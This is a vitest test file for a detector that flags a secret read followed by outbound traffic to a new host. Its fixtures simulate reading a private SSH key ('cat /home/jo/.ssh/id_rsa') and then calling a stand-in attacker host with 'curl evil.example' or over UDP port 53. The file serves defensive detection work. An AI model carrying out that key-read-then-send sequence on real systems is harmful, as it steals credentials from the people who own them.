import { describe, expect, it } from 'vitest'
import { SecretThenEgressDetector } from '../../../../src/engine/detect/secret-then-egress.js'
import { detectionBy } from '../../../support/bash-grammar.js'
import { Story } from '../../../support/session-facts.js'

const KEY = '/home/jo/.ssh/id_rsa'

function told(tell: (story: Story) => void): string[] {
  const story = new Story()
  tell(story)
  return story.tell(detectionBy(new SecretThenEgressDetector())).map(({ reason }) => reason.replace(/.* reached /, ''))
}
const shell = (story: Story) => story.exec(story.harness, ['bash', '-c', 'x'])

describe('secret_then_egress', () => {
  it('tells a new host after a secret, by a descendant of the same call', () => {
    const found = told((story) => {
      const bash = shell(story)
      story.read(story.exec(bash, ['cat', KEY]), KEY)
      story.attempt(story.exec(bash, ['curl', 'evil.example']), 'tcp 1.2.3.4:443', 'evil.example')
    })
    expect(found).toEqual(['evil.example, which is new to the session'])
  })

  it('tells a name that is only looked up, and the host behind it not again', () => {
    const found = told((story) => {
      const bash = shell(story)
      story.read(bash, KEY)
      story.lookUp(bash, 'evil.example')
      story.attempt(bash, 'tcp 1.2.3.4:443', 'evil.example')
    })
    expect(found).toHaveLength(1)
  })

  it.each<[string, (story: Story) => void]>([
    [
      'a host that was reached before',
      (story) => {
        story.attempt(shell(story), 'tcp 1.2.3.4:443', 'api.example')
        const bash = shell(story)
        story.read(bash, KEY)
        story.attempt(bash, 'tcp 1.2.3.5:443', 'api.example')
      },
    ],
    [
      'after more than a minute',
      (story) => {
        const bash = shell(story)
        story.read(bash, KEY)
        story.atMs += 61_000
        story.attempt(bash, 'tcp 1.2.3.4:443')
      },
    ],
    [
      'another call',
      (story) => {
        story.read(shell(story), KEY)
        story.attempt(shell(story), 'tcp 1.2.3.4:443')
      },
    ],
    [
      'the machine itself, its resolver, a Unix socket',
      (story) => {
        const bash = shell(story)
        story.read(bash, KEY)
        for (const target of ['tcp 127.0.0.1:80', 'tcp ::1:80', 'udp 10.0.0.2:53', 'unix /run/x'])
          story.attempt(bash, target)
        story.lookUp(bash, '4.3.2.1.in-addr.arpa')
      },
    ],
    [
      'ssh, which reads its key',
      (story) => {
        const ssh = story.exec(shell(story), ['ssh', 'host'])
        story.read(ssh, KEY)
        story.attempt(ssh, 'tcp 1.2.3.4:22')
      },
    ],
  ])('does not tell %s', (_, tell) => {
    expect(told(tell)).toEqual([])
  })

  it('is not led astray by port 53 of whoever, nor by many hosts before', () => {
    const found = told((story) => {
      for (let at = 0; at < 300; at += 1) story.attempt(shell(story), `tcp 10.1.${at}.1:443`)
      const bash = shell(story)
      for (let at = 0; at < 3; at += 1) story.attempt(bash, `udp 10.0.0.${at}:53`)
      story.read(bash, KEY)
      story.attempt(bash, 'udp 6.6.6.6:53')
    })
    expect(found).toEqual(['6.6.6.6, which is new to the session'])
  })

  it('says how long it took and what proves it', () => {
    const story = new Story()
    const bash = shell(story)
    story.read(bash, KEY)
    story.atMs += 999
    story.attempt(bash, 'tcp 1.2.3.4:443')
    const [finding] = story.tell(detectionBy(new SecretThenEgressDetector()))
    expect(finding).toMatchObject({ severity: 'high', measured: 1, threshold: 60, evidence: ['uid-3', 'uid-4'] })
  })
})
